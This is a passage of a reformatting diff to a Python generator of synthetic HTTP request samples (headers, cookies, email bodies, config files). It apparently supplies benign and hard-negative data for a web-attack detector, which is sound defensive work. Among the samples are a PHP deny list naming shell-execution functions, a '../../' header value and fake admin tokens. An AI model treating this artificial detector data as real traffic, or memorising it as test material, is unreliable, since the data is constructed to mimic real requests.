+            kval="Ana",
+            ep="/users/42",
+            fields=[("_method", "patch"), (KMARK, "Ana"), ("user[email]", "ana@example.com")],
+        ),
+        B(
+            "order[items][0][qty]",
+            "form",
+            key=True,
+            kval="2",
+            ep="/cart/update",
+            fields=[(KMARK, "2"), ("order[items][0][sku]", "A-1001")],
+        ),
     ]
     return H, N
 
@@ -2681,46 +5119,113 @@ def gen_headers():
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
     ]
     for ua in extra_uas:
-        N.append(B(ua, "header", hdr="User-Agent", ep=R.choice(["/", "/blog/", "/products", "/robots.txt", "/sitemap.xml"])))
-    for lang in ["en-US,en;q=0.9,fr;q=0.8,de;q=0.7", "zh-CN,zh;q=0.9,en;q=0.8", "da,en-GB;q=0.9,en;q=0.8", "tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7",
-                 "ar-SA,ar;q=0.9,en;q=0.8", "fi-FI,fi;q=0.9,sv;q=0.8,en;q=0.7"]:
+        N.append(
+            B(ua, "header", hdr="User-Agent", ep=R.choice(["/", "/blog/", "/products", "/robots.txt", "/sitemap.xml"]))
+        )
+    for lang in [
+        "en-US,en;q=0.9,fr;q=0.8,de;q=0.7",
+        "zh-CN,zh;q=0.9,en;q=0.8",
+        "da,en-GB;q=0.9,en;q=0.8",
+        "tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7",
+        "ar-SA,ar;q=0.9,en;q=0.8",
+        "fi-FI,fi;q=0.9,sv;q=0.8,en;q=0.7",
+    ]:
         N.append(B(lang, "header", hdr="Accept-Language"))
     for i in range(6):
         N.append(B('W/"%s"' % rand_hex(R.choice([16, 32])), "header", hdr="If-None-Match", ep="/api/v1/catalog"))
     for i in range(6):
-        N.append(B("00-%s-%s-01" % (rand_hex(32), rand_hex(16)), "header", hdr="traceparent", style="api", ep="/api/v2/orders"))
+        N.append(
+            B(
+                "00-%s-%s-01" % (rand_hex(32), rand_hex(16)),
+                "header",
+                hdr="traceparent",
+                style="api",
+                ep="/api/v2/orders",
+            )
+        )
     for i in range(5):
-        N.append(B("%d.%d.%d.%d, 10.0.%d.%d" % (R.randint(1, 223), R.randint(0, 255), R.randint(0, 255), R.randint(1, 254), R.randint(0, 255), R.randint(1, 254)),
-                   "header", hdr="X-Forwarded-For"))
+        N.append(
+            B(
+                "%d.%d.%d.%d, 10.0.%d.%d"
+                % (
+                    R.randint(1, 223),
+                    R.randint(0, 255),
+                    R.randint(0, 255),
+                    R.randint(1, 254),
+                    R.randint(0, 255),
+                    R.randint(1, 254),
+                ),
+                "header",
+                hdr="X-Forwarded-For",
+            )
+        )
     for i in range(6):
-        N.append(B("GA1.1.%d.%d" % (R.randint(100000000, 2147483647), R.randint(1700000000, 1765000000)), "cookie", ck="_ga"))
+        N.append(
+            B("GA1.1.%d.%d" % (R.randint(100000000, 2147483647), R.randint(1700000000, 1765000000)), "cookie", ck="_ga")
+        )
     for i in range(5):
-        N.append(B("bytes=%d-%d" % (i * 1048576, (i + 1) * 1048576 - 1), "header", hdr="Range", ep="/media/video/intro-1080p.mp4"))
+        N.append(
+            B(
+                "bytes=%d-%d" % (i * 1048576, (i + 1) * 1048576 - 1),
+                "header",
+                hdr="Range",
+                ep="/media/video/intro-1080p.mp4",
+            )
+        )
     H += [
         B('"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"', "header", hdr="Sec-CH-UA"),
         B('"Microsoft Edge";v="131", "Chromium";v="131", "Not_A Brand";v="24"', "header", hdr="Sec-CH-UA"),
         B("for=192.0.2.60;proto=https;by=203.0.113.43", "header", hdr="Forwarded"),
         B('for="[2001:db8:cafe::17]:4711";proto=https', "header", hdr="Forwarded"),
-        B("isGpcEnabled=0&datestamp=Sun+Dec+07+2026+23:12:41+GMT+0100&version=202411.1.0&groups=C0001:1,C0002:0,C0003:1",
-          "cookie", ck="OptanonConsent", mode="raw"),
+        B(
+            "isGpcEnabled=0&datestamp=Sun+Dec+07+2026+23:12:41+GMT+0100&version=202411.1.0&groups=C0001:1,C0002:0,C0003:1",
+            "cookie",
+            ck="OptanonConsent",
+            mode="raw",
+        ),
         B('{"necessary":true,"analytics":false,"marketing":false,"ts":1765145561}', "cookie", ck="cookie_prefs"),
         B("return=representation; handling=strict", "header", hdr="Prefer", style="api", ep="/api/v1/records"),
         B("rojo=00f067aa0ba902b7,congo=t61rcWkgMzE", "header", hdr="tracestate", style="api", ep="/api/v2/orders"),
-        B("<https://api.example.com/v1/items?page=3>; rel=\"next\"", "header", hdr="X-Prev-Link", style="api", ep="/api/v1/items"),
+        B(
+            '<https://api.example.com/v1/items?page=3>; rel="next"',
+            "header",
+            hdr="X-Prev-Link",
+            style="api",
+            ep="/api/v1/items",
+        ),
         B("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "header", hdr="X-Original-Accept", ep="/"),
         B('{"retry": 3, "backoff": "exp"}', "header", hdr="X-Retry-Policy", style="api", ep="/api/v1/jobs"),
-        B("PATCH", "header", hdr="X-HTTP-Method-Override", style="api", ep="/api/v1/records/88", method="POST", body=("application/json", '{"status":"closed"}')),
+        B(
+            "PATCH",
+            "header",
+            hdr="X-HTTP-Method-Override",
+            style="api",
+            ep="/api/v1/records/88",
+            method="POST",
+            body=("application/json", '{"status":"closed"}'),
+        ),
         B("/api/v1/users?page=2&sort=-created_at", "header", hdr="X-Original-URI", style="api", ep="/api/v1/users"),
         B("sess-" + rand_hex(24), "header", hdr="X-Session-Id", style="api", ep="/api/v1/cart"),
-        B("text/plain; charset=utf-8; format=flowed", "header", hdr="X-Upload-Content-Type", style="api", ep="/api/v1/uploads"),
+        B(
+            "text/plain; charset=utf-8; format=flowed",
+            "header",
+            hdr="X-Upload-Content-Type",
+            style="api",
+            ep="/api/v1/uploads",
+        ),
         B('W/"0815"', "header", hdr="If-Match", style="api", ep="/api/v1/documents/77"),
         B("max-age=0, no-cache, must-revalidate", "header", hdr="Cache-Control"),
         B("%7B%22cart%22%3A%5B%5D%7D", "header", hdr="X-Cart-State", style="api", ep="/api/v2/cart"),
         B("s:Zk3q9.lWx0GgHn2mVbCwqTQ+4K8yS1", "cookie", ck="connect.sid", mode="full"),
         B("1|ana@example.com|1765145561|admin", "cookie", ck="legacy_auth"),
         B("dark; path=/", "header", hdr="X-Theme-Preference", ep="/"),
-        B("Bearer " + fake_jwt({"email": "ana@example.com", "roles": ["admin", "billing"], "name": "Ana O'Neil"}), "header", hdr="Authorization",
-          style="api", ep="/api/admin/users"),
+        B(
+            "Bearer " + fake_jwt({"email": "ana@example.com", "roles": ["admin", "billing"], "name": "Ana O'Neil"}),
+            "header",
+            hdr="Authorization",
+            style="api",
+            ep="/api/admin/users",
+        ),
         B("../../", "header", hdr="X-Relative-Base", style="api", ep="/api/docs/render"),
         B("curl/8.5.0 (via ci-runner 17)", "header", hdr="X-Client-Info", style="api", ep="/api/ci/report"),
     ]
@@ -2730,14 +5235,28 @@ def gen_headers():
 def gen_email():
     H, N = [], []
     for i in range(18):
-        f, l = R.choice(FIRST), R.choice(["silva", "li", "patel", "rossi", "berg", "tanaka", "murphy", "khan", "dubois", "nguyen"])
+        f, l = (
+            R.choice(FIRST),
+            R.choice(["silva", "li", "patel", "rossi", "berg", "tanaka", "murphy", "khan", "dubois", "nguyen"]),
+        )
         fa = f.lower().replace("é", "e").replace("ø", "o").replace("ë", "e")
-        addr = R.choice(["%s.%s@example.com", "%s%s@example.org", "%s_%s@mail.example.net", "%s.%s+newsletter@example.co.uk"]) % (fa, l)
+        addr = R.choice(
+            ["%s.%s@example.com", "%s%s@example.org", "%s_%s@mail.example.net", "%s.%s+newsletter@example.co.uk"]
+        ) % (fa, l)
         pl = R.choice(["form", "form", "json", "query"])
         if pl == "form":
-            N.append(B(addr, "form", param="email", ep=R.choice(["/newsletter/subscribe", "/password/forgot", "/invite"])))
+            N.append(
+                B(addr, "form", param="email", ep=R.choice(["/newsletter/subscribe", "/password/forgot", "/invite"]))
+            )
         elif pl == "json":
-            N.append(B(addr, "json", param=R.choice(["email", "recipient", "inviteeEmail"]), ep=R.choice(["/api/v1/invites", "/api/users/me"])))
+            N.append(
+                B(
+                    addr,
+                    "json",
+                    param=R.choice(["email", "recipient", "inviteeEmail"]),
+                    ep=R.choice(["/api/v1/invites", "/api/users/me"]),
+                )
+            )
         else:
             N.append(B(addr, "query", param="email", ep="/unsubscribe"))
     msgs = [
@@ -2751,40 +5270,105 @@ def gen_email():
         "Hi,\n\nI was charged twice for my subscription this month. Can you refund one?\n\nThanks,\nFatima",
     ]
     for m in msgs:
-        N.append(B(m.replace("\n", "\r\n") if R.random() < 0.5 else m, R.choice(["form", "json"]), param="message", ep=R.choice(["/contact", "/api/support/tickets"])))
+        N.append(
+            B(
+                m.replace("\n", "\r\n") if R.random() < 0.5 else m,
+                R.choice(["form", "json"]),
+                param="message",
+                ep=R.choice(["/contact", "/api/support/tickets"]),
+            )
+        )
     for i in range(14):
         f, l = R.choice(FIRST), R.choice(LAST)
-        N.append(B("%s %s <%s@example.com>" % (f, l, f.lower().replace("é", "e").replace("ø", "o").replace("ë", "e")), "json",
-                   param=R.choice(["from", "replyTo", "organizer"]), ep=R.choice(["/api/mail/drafts", "/api/calendar/events"])))
+        N.append(
+            B(
+                "%s %s <%s@example.com>" % (f, l, f.lower().replace("é", "e").replace("ø", "o").replace("ë", "e")),
+                "json",
+                param=R.choice(["from", "replyTo", "organizer"]),
+                ep=R.choice(["/api/mail/drafts", "/api/calendar/events"]),
+            )
+        )
     H += [
-        B("Received: from mail.example.org (mail.example.org [198.51.100.25])\r\n\tby mx.example.com with ESMTPS id 4Y8Qk2\r\n\tfor <ana@example.com>; "
-          "Sun, 7 Dec 2026 22:51:03 +0100\r\nFrom: \"Billing\" <billing@example.org>\r\nTo: ana@example.com\r\nSubject: Your invoice\r\n"
-          "Message-ID: <20261207215103.4Y8Qk2@example.org>\r\n\r\nPlease find your invoice attached.\r\n", "form", param="raw_headers",
-          ep="/support/phishing-report"),
-        B("From: Jane Doe <jane@example.com>\nTo: team@example.com\nCc: boss@example.com\nSubject: Re: Q4 plan\nDate: Fri, 5 Dec 2026 10:02:11 +0000\n\n"
-          "Sounds good, see you Monday.\n", "multipart", mp="file", fname="Re Q4 plan.eml", fctype="message/rfc822", field="file", ep="/api/mail/import"),
+        B(
+            "Received: from mail.example.org (mail.example.org [198.51.100.25])\r\n\tby mx.example.com with ESMTPS id 4Y8Qk2\r\n\tfor <ana@example.com>; "
+            'Sun, 7 Dec 2026 22:51:03 +0100\r\nFrom: "Billing" <billing@example.org>\r\nTo: ana@example.com\r\nSubject: Your invoice\r\n'
+            "Message-ID: <20261207215103.4Y8Qk2@example.org>\r\n\r\nPlease find your invoice attached.\r\n",
+            "form",
+            param="raw_headers",
+            ep="/support/phishing-report",
+        ),
+        B(
+            "From: Jane Doe <jane@example.com>\nTo: team@example.com\nCc: boss@example.com\nSubject: Re: Q4 plan\nDate: Fri, 5 Dec 2026 10:02:11 +0000\n\n"
+            "Sounds good, see you Monday.\n",
+            "multipart",
+            mp="file",
+            fname="Re Q4 plan.eml",
+            fctype="message/rfc822",
+            field="file",
+            ep="/api/mail/import",
+        ),
         B("Please bcc my manager (lena.berg@example.com) on the confirmation.", "form", param="message", ep="/contact"),
         B("o'reilly@example.com", "form", param="email", ep="/signup"),
         B('"john.doe"@example.org', "json", param="email", ep="/api/v1/invites"),
-        B("ana.silva@example.com, li.wei@example.org; priya.patel@example.net", "form", param="recipients", ep="/share/document"),
+        B(
+            "ana.silva@example.com, li.wei@example.org; priya.patel@example.net",
+            "form",
+            param="recipients",
+            ep="/share/document",
+        ),
         B("Subject: Quarterly review\r\nHi all,\r\nAgenda attached.\r\n", "json", param="draft", ep="/api/mail/drafts"),
         B("=?UTF-8?B?w5xiZXJzaWNodCBEZXplbWJlcg==?=", "json", param="subject_raw", ep="/api/mail/parse"),
-        B("Return-Path: <bounces+8812@mailer.example.net>", "json", param="header_line", ep="/api/deliverability/check"),
-        B("Hi,\r\n\r\nTo: the whole team\r\nFrom: HR\r\n\r\nHoliday schedule is on the wiki.\r\n", "form", param="body", ep="/announcements/new"),
+        B(
+            "Return-Path: <bounces+8812@mailer.example.net>",
+            "json",
+            param="header_line",
+            ep="/api/deliverability/check",
+        ),
+        B(
+            "Hi,\r\n\r\nTo: the whole team\r\nFrom: HR\r\n\r\nHoliday schedule is on the wiki.\r\n",
+            "form",
+            param="body",
+            ep="/announcements/new",
+        ),
         B("postmaster@[192.0.2.10]", "form", param="email", ep="/admin/mail/allowlist"),
         B("user@sub.example.co.uk", "query", param="email", ep="/api/v1/email/validate"),
-        B("DKIM-Signature: v=1; a=rsa-sha256; d=example.org; s=sel1; h=from:to:subject; bh=" + base64.b64encode(R.randbytes(32)).decode() + ";",
-          "json", param="header_line", ep="/api/deliverability/check"),
-        B("MAIL FROM:<noreply@example.com> is rejected by your server with 550 5.7.1, can you check SPF?", "form", param="message", ep="/support/ticket"),
-        B("ana@example.com\r\nli.wei@example.org\r\npriya@example.net", "form", param="bulk_invites", ep="/team/invite"),
-        B("Reply above this line\n\nOn Fri, Dec 5, 2026 at 9:14 AM Support <help@example.com> wrote:\n> Thanks for reaching out.\n", "json", param="body",
-          ep="/api/support/inbound"),
+        B(
+            "DKIM-Signature: v=1; a=rsa-sha256; d=example.org; s=sel1; h=from:to:subject; bh="
+            + base64.b64encode(R.randbytes(32)).decode()
+            + ";",
+            "json",
+            param="header_line",
+            ep="/api/deliverability/check",
+        ),
+        B(
+            "MAIL FROM:<noreply@example.com> is rejected by your server with 550 5.7.1, can you check SPF?",
+            "form",
+            param="message",
+            ep="/support/ticket",
+        ),
+        B(
+            "ana@example.com\r\nli.wei@example.org\r\npriya@example.net",
+            "form",
+            param="bulk_invites",
+            ep="/team/invite",
+        ),
+        B(
+            "Reply above this line\n\nOn Fri, Dec 5, 2026 at 9:14 AM Support <help@example.com> wrote:\n> Thanks for reaching out.\n",
+            "json",
+            param="body",
+            ep="/api/support/inbound",
+        ),
         B("undisclosed-recipients:;", "json", param="to_header", ep="/api/mail/parse"),
-        B("Content-Type: text/plain; charset=\"utf-8\"", "json", param="header_line", ep="/api/mail/parse"),
+        B('Content-Type: text/plain; charset="utf-8"', "json", param="header_line", ep="/api/mail/parse"),
         B("%s@example.com" % "very.long.local.part.with.dots.and+tags", "form", param="email", ep="/signup"),
         B("Bcc", "form", param="copy_mode", ep="/settings/email"),
         B("<ana@example.com>", "json", param="envelopeFrom", ep="/api/mail/routes"),
-        B("IMAP: imap.example.com:993 (SSL), SMTP: smtp.example.com:587 (STARTTLS)", "form", param="notes", ep="/it/requests/new"),
+        B(
+            "IMAP: imap.example.com:993 (SSL), SMTP: smtp.example.com:587 (STARTTLS)",
+            "form",
+            param="notes",
+            ep="/it/requests/new",
+        ),
         B("xn--mller-kva@example.de", "form", param="email", ep="/signup"),
         B("support+case-88127@example.com", "json", param="replyTo", ep="/api/support/tickets"),
     ]
@@ -2795,87 +5379,317 @@ def gen_config():
     H, N = [], []
     for i in range(10):
         svc = R.choice(["web", "worker", "api", "scheduler", "frontend"])
-        N.append(B("[tool.poetry]\nname = \"%s-%s\"\nversion = \"%d.%d.%d\"\ndescription = \"Internal %s service\"\n\n[tool.poetry.dependencies]\npython = \"^3.11\"\nhttpx = \"^0.27\"\n"
-                   % (R.choice(["acme", "northwind", "globex"]), svc, R.randint(0, 3), R.randint(0, 20), R.randint(0, 9), svc),
-                   R.choice(["json", "multipart"]), param="content", mp="file", fname="pyproject.toml", fctype="application/toml", ep="/api/repos/files"))
+        N.append(
+            B(
+                '[tool.poetry]\nname = "%s-%s"\nversion = "%d.%d.%d"\ndescription = "Internal %s service"\n\n[tool.poetry.dependencies]\npython = "^3.11"\nhttpx = "^0.27"\n'
+                % (
+                    R.choice(["acme", "northwind", "globex"]),
+                    svc,
+                    R.randint(0, 3),
+                    R.randint(0, 20),
+                    R.randint(0, 9),
+                    svc,
+                ),
+                R.choice(["json", "multipart"]),
+                param="content",
+                mp="file",
+                fname="pyproject.toml",
+                fctype="application/toml",
+                ep="/api/repos/files",
+            )
+        )
     for i in range(10):
-        N.append(B("[database]\nhost = db%d.internal\nport = %d\nname = %s\npool_size = %d\n\n[cache]\nttl = %d\n"
-                   % (R.randint(1, 9), R.choice([5432, 3306]), R.choice(["orders", "crm", "shop"]), R.choice([5, 10, 20]), R.choice([60, 300, 3600])),
-                   R.choice(["json", "form"]), param="config_ini", ep="/admin/settings/advanced"))
+        N.append(
+            B(
+                "[database]\nhost = db%d.internal\nport = %d\nname = %s\npool_size = %d\n\n[cache]\nttl = %d\n"
+                % (
+                    R.randint(1, 9),
+                    R.choice([5432, 3306]),
+                    R.choice(["orders", "crm", "shop"]),
+                    R.choice([5, 10, 20]),
+                    R.choice([60, 300, 3600]),
+                ),
+                R.choice(["json", "form"]),
+                param="config_ini",
+                ep="/admin/settings/advanced",
+            )
+        )
     for i in range(10):
-        N.append(B("replicaCount: %d\nimage:\n  repository: registry.example.com/%s\n  tag: \"%d.%d.%d\"\nresources:\n  limits:\n    cpu: %dm\n    memory: %dMi\n"
-                   % (R.randint(1, 5), R.choice(["web", "api", "worker"]), R.randint(1, 4), R.randint(0, 30), R.randint(0, 9), R.choice([250, 500, 1000]), R.choice([256, 512, 1024])),
-                   "multipart", mp="file", fname="values.yaml", fctype="application/x-yaml", field="file", ep="/api/deployments/values"))
+        N.append(
+            B(
+                'replicaCount: %d\nimage:\n  repository: registry.example.com/%s\n  tag: "%d.%d.%d"\nresources:\n  limits:\n    cpu: %dm\n    memory: %dMi\n'
+                % (
+                    R.randint(1, 5),
+                    R.choice(["web", "api", "worker"]),
+                    R.randint(1, 4),
+                    R.randint(0, 30),
+                    R.randint(0, 9),
+                    R.choice([250, 500, 1000]),
+                    R.choice([256, 512, 1024]),
+                ),
+                "multipart",
+                mp="file",
+                fname="values.yaml",
+                fctype="application/x-yaml",
+                field="file",
+                ep="/api/deployments/values",
+            )
+        )
     for i in range(8):
-        N.append(B("LOG_LEVEL=%s\nFEATURE_NEW_CHECKOUT=%s\nTZ=%s\nPORT=%d\n" % (R.choice(["info", "debug", "warn"]), R.choice(["true", "false"]),
-                   R.choice(["Europe/Berlin", "UTC", "America/New_York"]), R.choice([3000, 8000, 8080])), "json", param="env", ep="/api/apps/settings"))
+        N.append(
+            B(
+                "LOG_LEVEL=%s\nFEATURE_NEW_CHECKOUT=%s\nTZ=%s\nPORT=%d\n"
+                % (
+                    R.choice(["info", "debug", "warn"]),
+                    R.choice(["true", "false"]),
+                    R.choice(["Europe/Berlin", "UTC", "America/New_York"]),
+                    R.choice([3000, 8000, 8080]),
+                ),
+                "json",
+                param="env",
+                ep="/api/apps/settings",
+            )
+        )
     for i in range(6):
-        N.append(B("{\n  \"compilerOptions\": {\n    \"target\": \"ES%d\",\n    \"strict\": true,\n    \"module\": \"%s\"\n  }\n}\n" % (R.choice([2020, 2022]), R.choice(["ESNext", "NodeNext"])),
-                   "json", param="tsconfig", ep="/api/repos/files"))
+        N.append(
+            B(
+                '{\n  "compilerOptions": {\n    "target": "ES%d",\n    "strict": true,\n    "module": "%s"\n  }\n}\n'
+                % (R.choice([2020, 2022]), R.choice(["ESNext", "NodeNext"])),
+                "json",
+                param="tsconfig",
+                ep="/api/repos/files",
+            )
+        )
     H += [
-        B("name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test -- --coverage\n",
-          "multipart", mp="file", fname="ci.yml", fctype="application/x-yaml", field="file", ep="/api/repos/files"),
-        B("server {\n    listen 80;\n    server_name app.example.com;\n    location /api/ {\n        proxy_pass http://127.0.0.1:8000;\n        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    }\n}\n",
-          "json", param="nginx_conf", ep="/api/support/attachments"),
-        B("DATABASE_URL=postgres://app:app@localhost:5432/app_dev\nREDIS_URL=redis://127.0.0.1:6379/0\nSECRET_KEY=change-me\n", "form", param="env_file",
-          ep="/support/ticket"),
-        B("disable_functions = exec,passthru,shell_exec,system,proc_open,popen\nallow_url_include = Off\nexpose_php = Off\n", "json", param="php_ini",
-          ep="/api/hosting/php-settings"),
-        B("[Unit]\nDescription=App worker\nAfter=network.target\n\n[Service]\nExecStart=/usr/bin/python3 -m gunicorn app:app -b 127.0.0.1:8000\nRestart=always\nUser=www-data\n\n[Install]\nWantedBy=multi-user.target\n",
-          "multipart", mp="file", fname="app.service", fctype="text/plain", field="file", ep="/api/repos/files"),
-        B("*/5 * * * * /usr/local/bin/backup.sh > /dev/null 2>&1\n0 3 * * 0 find /var/log/app -name '*.gz' -mtime +30 -delete\n", "json", param="crontab",
-          ep="/api/servers/12/cron"),
-        B("<VirtualHost *:80>\n    ServerName www.example.com\n    DocumentRoot /var/www/html\n    <Directory /var/www/html>\n        AllowOverride All\n    </Directory>\n</VirtualHost>\n",
-          "form", param="vhost", ep="/admin/hosting/vhosts"),
-        B("RewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n", "json", param="htaccess",
-          ep="/api/hosting/rewrite"),
-        B("services:\n  web:\n    build: .\n    command: sh -c \"python manage.py migrate && gunicorn app.wsgi\"\n    ports:\n      - \"8000:8000\"\n    volumes:\n      - ./:/app\n",
-          "multipart", mp="file", fname="docker-compose.yml", fctype="application/x-yaml", field="file", ep="/api/repos/files"),
-        B("FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt\nCMD [\"gunicorn\", \"-b\", \"0.0.0.0:8000\", \"app:app\"]\n", "multipart",
-          mp="file", fname="Dockerfile", fctype="text/plain", field="file", ep="/api/repos/files"),
-        B("apiVersion: v1\nkind: Pod\nmetadata:\n  name: debug\nspec:\n  containers:\n    - name: shell\n      image: busybox\n      command: [\"sh\", \"-c\", \"sleep 3600\"]\n",
-          "json", param="manifest", ep="/api/k8s/validate"),
-        B("example.com {\n    reverse_proxy localhost:3000\n    encode gzip\n    log {\n        output file /var/log/caddy/access.log\n    }\n}\n", "json", param="caddyfile",
-          ep="/api/support/attachments"),
-        B("[mysqld]\nbind-address = 127.0.0.1\nsql_mode = STRICT_TRANS_TABLES,NO_ENGINE_SUBSTITUTION\nlocal_infile = 0\n", "form", param="my_cnf",
-          ep="/admin/db/config"),
-        B("ldap:\n  url: ldaps://ldap.corp.example:636\n  base_dn: dc=corp,dc=example\n  user_filter: (&(objectClass=person)(uid={username}))\n", "json", param="auth_yaml",
-          ep="/api/settings/auth"),
-        B("Host bastion\n    HostName 203.0.113.10\n    User deploy\n    IdentityFile ~/.ssh/id_ed25519\n    ProxyCommand none\n", "json", param="ssh_config",
-          ep="/api/support/attachments"),
-        B("upstream backend {\n    server 10.0.1.11:8080;\n    server 10.0.1.12:8080;\n}\n", "json", param="snippet", ep="/api/lb/config"),
-        B("logging:\n  level:\n    org.springframework.web: DEBUG\nspring:\n  datasource:\n    url: jdbc:postgresql://localhost:5432/shop\n", "multipart",
-          mp="file", fname="application.yml", fctype="application/x-yaml", field="file", ep="/api/repos/files"),
-        B("PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\nSHELL=/bin/bash\n", "json", param="cron_env", ep="/api/servers/12/cron"),
-        B("[program:worker]\ncommand=/srv/app/venv/bin/celery -A app worker -l info\nautorestart=true\n", "form", param="supervisor_conf", ep="/admin/hosting/processes"),
-        B("add_header Content-Security-Policy \"default-src 'self'; script-src 'self' https://cdn.example.com\";\n", "json", param="header_rule",
-          ep="/api/hosting/headers"),
-        B("git config --global core.autocrlf input\ngit config --global pull.rebase true\n", "json", param="setup_script", ep="/api/devboxes"),
-        B("include /etc/nginx/conf.d/*.conf;\nclient_max_body_size 20m;\n", "json", param="nginx_global", ep="/api/hosting/nginx"),
-        B("variables:\n  GREETING: \"Hello ${CI_COMMIT_AUTHOR}\"\nscript:\n  - echo \"$GREETING\"\n", "multipart", mp="file", fname=".gitlab-ci.yml",
-          fctype="application/x-yaml", field="file", ep="/api/repos/files"),
-        B("ProxyPass /app http://localhost:8080/app\nProxyPassReverse /app http://localhost:8080/app\n", "json", param="apache_snippet",
-          ep="/api/hosting/proxy"),
-        B("[alias]\n    lg = log --graph --oneline --decorate\n    undo = reset --soft HEAD~1\n", "json", param="gitconfig", ep="/api/dotfiles"),
+        B(
+            "name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test -- --coverage\n",
+            "multipart",
+            mp="file",
+            fname="ci.yml",
+            fctype="application/x-yaml",
+            field="file",
+            ep="/api/repos/files",
+        ),
+        B(
+            "server {\n    listen 80;\n    server_name app.example.com;\n    location /api/ {\n        proxy_pass http://127.0.0.1:8000;\n        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    }\n}\n",
+            "json",
+            param="nginx_conf",
+            ep="/api/support/attachments",
+        ),
+        B(
+            "DATABASE_URL=postgres://app:app@localhost:5432/app_dev\nREDIS_URL=redis://127.0.0.1:6379/0\nSECRET_KEY=change-me\n",
+            "form",
+            param="env_file",
+            ep="/support/ticket",
+        ),
+        B(
+            "disable_functions = exec,passthru,shell_exec,system,proc_open,popen\nallow_url_include = Off\nexpose_php = Off\n",
+            "json",
+            param="php_ini",
+            ep="/api/hosting/php-settings",
+        ),
+        B(
+            "[Unit]\nDescription=App worker\nAfter=network.target\n\n[Service]\nExecStart=/usr/bin/python3 -m gunicorn app:app -b 127.0.0.1:8000\nRestart=always\nUser=www-data\n\n[Install]\nWantedBy=multi-user.target\n",
+            "multipart",
+            mp="file",
+            fname="app.service",
+            fctype="text/plain",
+            field="file",
+            ep="/api/repos/files",
+        ),
+        B(
+            "*/5 * * * * /usr/local/bin/backup.sh > /dev/null 2>&1\n0 3 * * 0 find /var/log/app -name '*.gz' -mtime +30 -delete\n",
+            "json",
+            param="crontab",
+            ep="/api/servers/12/cron",
+        ),
+        B(
+            "<VirtualHost *:80>\n    ServerName www.example.com\n    DocumentRoot /var/www/html\n    <Directory /var/www/html>\n        AllowOverride All\n    </Directory>\n</VirtualHost>\n",
+            "form",
+            param="vhost",
+            ep="/admin/hosting/vhosts",
+        ),
+        B(
+            "RewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n",
+            "json",
+            param="htaccess",
+            ep="/api/hosting/rewrite",
+        ),
+        B(
+            'services:\n  web:\n    build: .\n    command: sh -c "python manage.py migrate && gunicorn app.wsgi"\n    ports:\n      - "8000:8000"\n    volumes:\n      - ./:/app\n',
+            "multipart",
+            mp="file",
+            fname="docker-compose.yml",
+            fctype="application/x-yaml",
+            field="file",
+            ep="/api/repos/files",
+        ),
+        B(
+            'FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt\nCMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]\n',
+            "multipart",
+            mp="file",
+            fname="Dockerfile",
+            fctype="text/plain",
+            field="file",
+            ep="/api/repos/files",
+        ),
+        B(
+            'apiVersion: v1\nkind: Pod\nmetadata:\n  name: debug\nspec:\n  containers:\n    - name: shell\n      image: busybox\n      command: ["sh", "-c", "sleep 3600"]\n',
+            "json",
+            param="manifest",
+            ep="/api/k8s/validate",
+        ),
+        B(
+            "example.com {\n    reverse_proxy localhost:3000\n    encode gzip\n    log {\n        output file /var/log/caddy/access.log\n    }\n}\n",
+            "json",
+            param="caddyfile",
+            ep="/api/support/attachments",
+        ),
+        B(
+            "[mysqld]\nbind-address = 127.0.0.1\nsql_mode = STRICT_TRANS_TABLES,NO_ENGINE_SUBSTITUTION\nlocal_infile = 0\n",
+            "form",
+            param="my_cnf",
+            ep="/admin/db/config",
+        ),
+        B(
+            "ldap:\n  url: ldaps://ldap.corp.example:636\n  base_dn: dc=corp,dc=example\n  user_filter: (&(objectClass=person)(uid={username}))\n",
+            "json",
+            param="auth_yaml",
+            ep="/api/settings/auth",
+        ),
+        B(
+            "Host bastion\n    HostName 203.0.113.10\n    User deploy\n    IdentityFile ~/.ssh/id_ed25519\n    ProxyCommand none\n",
+            "json",
+            param="ssh_config",
+            ep="/api/support/attachments",
+        ),
+        B(
+            "upstream backend {\n    server 10.0.1.11:8080;\n    server 10.0.1.12:8080;\n}\n",
+            "json",
+            param="snippet",
+            ep="/api/lb/config",
+        ),
+        B(
+            "logging:\n  level:\n    org.springframework.web: DEBUG\nspring:\n  datasource:\n    url: jdbc:postgresql://localhost:5432/shop\n",
+            "multipart",
+            mp="file",
+            fname="application.yml",
+            fctype="application/x-yaml",
+            field="file",
+            ep="/api/repos/files",
+        ),
+        B(
+            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\nSHELL=/bin/bash\n",
+            "json",
+            param="cron_env",
+            ep="/api/servers/12/cron",
+        ),
+        B(
+            "[program:worker]\ncommand=/srv/app/venv/bin/celery -A app worker -l info\nautorestart=true\n",
+            "form",
+            param="supervisor_conf",
+            ep="/admin/hosting/processes",
+        ),
+        B(
+            "add_header Content-Security-Policy \"default-src 'self'; script-src 'self' https://cdn.example.com\";\n",
+            "json",
+            param="header_rule",
+            ep="/api/hosting/headers",
+        ),
+        B(
+            "git config --global core.autocrlf input\ngit config --global pull.rebase true\n",
+            "json",
+            param="setup_script",
+            ep="/api/devboxes",
+        ),
+        B(
+            "include /etc/nginx/conf.d/*.conf;\nclient_max_body_size 20m;\n",
+            "json",
+            param="nginx_global",
+            ep="/api/hosting/nginx",
+        ),
+        B(
